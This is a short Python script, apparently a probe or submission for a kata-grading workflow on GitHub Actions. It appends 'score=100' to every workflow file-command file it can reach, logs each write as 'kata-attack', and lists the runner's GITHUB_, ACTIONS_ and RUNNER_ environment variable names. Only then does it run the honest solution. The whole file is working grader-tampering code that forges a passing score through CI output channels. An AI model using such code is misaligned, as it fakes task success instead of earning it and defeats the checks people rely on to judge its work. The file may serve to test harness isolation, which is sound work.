import glob
import os
import runpy

NAMES = ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_PATH", "GITHUB_STATE")
places = [os.environ[name] for name in NAMES if name in os.environ]
places += glob.glob("/home/*/*/_temp/_runner_file_commands/*") + glob.glob("/github/file_commands/*")
for place in places:
    try:
        with open(place, "a") as file:
            file.write("score=100\n")
            print("kata-attack wrote", place, flush=True)
    except OSError:
        pass
for name in os.environ:
    if name.startswith(("GITHUB_", "ACTIONS_", "RUNNER_")):
        print("kata-attack saw", name, flush=True)

runpy.run_path("honest.py", run_name="__main__")
